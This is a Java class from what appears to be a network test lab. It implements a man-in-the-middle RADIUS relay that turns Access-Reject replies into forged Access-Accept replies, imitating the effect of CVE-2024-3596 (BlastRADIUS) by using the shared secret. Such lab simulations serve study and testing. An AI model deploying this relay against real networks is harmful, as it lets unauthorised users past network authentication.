package io.braid.lab.host;

import io.braid.lab.net.Host;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetSocketAddress;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.Arrays;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;

/**
 * Somebody between a RADIUS client and its server who turns every Access-Reject into an Access-Accept without a
 * Message-Authenticator: what CVE-2024-3596 (BlastRADIUS) comes to. The collision that the attack takes minutes to find is
 * replaced by knowing the secret; the packet that the client gets is of the same kind.
 */
public final class RadiusForger implements AutoCloseable {
    private static final Logger LOG = LoggerFactory.getLogger(RadiusForger.class);
    private static final int PACKET_BYTES = 4096;
    private static final int WAIT_MS = 2000;
    private static final int HEADER = 20;
    private static final int AUTHENTICATOR = 4;
    private static final int MESSAGE_AUTHENTICATOR = 80;
    private static final int ACCEPT = 2;
    private static final int REJECT = 3;

    private final DatagramSocket here;
    private final DatagramSocket there;
    private final String secret;

    /**
     * Stands in the way.
     *
     * @param address where requests are taken
     * @param server where they go on to
     */
    public RadiusForger(Host host, InetSocketAddress address, InetSocketAddress server, String secret) throws IOException {
        this.secret = secret;
        here = host.netns().call(() -> new DatagramSocket(address));
        there = host.netns().call(() -> new DatagramSocket());
        there.connect(server);
        there.setSoTimeout(WAIT_MS);
        Thread.ofPlatform().daemon().name("forger-" + host.name()).start(this::serve);
    }

    private void serve() {
        DatagramPacket request = new DatagramPacket(new byte[PACKET_BYTES], PACKET_BYTES);
        DatagramPacket answer = new DatagramPacket(new byte[PACKET_BYTES], PACKET_BYTES);
        try {
            while (true) {
                request.setLength(PACKET_BYTES);
                here.receive(request);
                there.send(new DatagramPacket(request.getData(), request.getLength()));
                answer.setLength(PACKET_BYTES);
                try {
                    there.receive(answer);
                } catch (SocketTimeoutException e) {
                    LOG.debug("event=no-answer", e);
                    continue;
                }
                byte[] forged = forged(
                        Arrays.copyOf(request.getData(), request.getLength()),
                        Arrays.copyOf(answer.getData(), answer.getLength()));
                here.send(new DatagramPacket(forged, forged.length, request.getSocketAddress()));
            }
        } catch (IOException e) {
            LOG.debug("event=forger-ends reason={}", e.getMessage());
        }
    }

    private byte[] forged(byte[] request, byte[] answer) {
        ByteArrayOutputStream attributes = new ByteArrayOutputStream();
        for (int at = HEADER; at < answer.length; at += answer[at + 1] & 0xff) {
            if ((answer[at] & 0xff) != MESSAGE_AUTHENTICATOR) {
                attributes.write(answer, at, answer[at + 1] & 0xff);
            }
        }
        byte[] forged = Arrays.copyOf(answer, HEADER + attributes.size());
        System.arraycopy(attributes.toByteArray(), 0, forged, HEADER, attributes.size());
        forged[0] = forged[0] == REJECT ? ACCEPT : forged[0];
        forged[2] = (byte) (forged.length >> Byte.SIZE);
        forged[3] = (byte) forged.length;
        System.arraycopy(request, AUTHENTICATOR, forged, AUTHENTICATOR, HEADER - AUTHENTICATOR);
        try {
            MessageDigest md5 = MessageDigest.getInstance("MD5");
            md5.update(forged);
            byte[] digest = md5.digest(secret.getBytes(StandardCharsets.UTF_8));
            System.arraycopy(digest, 0, forged, AUTHENTICATOR, digest.length);
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
        return forged;
    }

    @Override
    public void close() {
        here.close();
        there.close();
    }
}
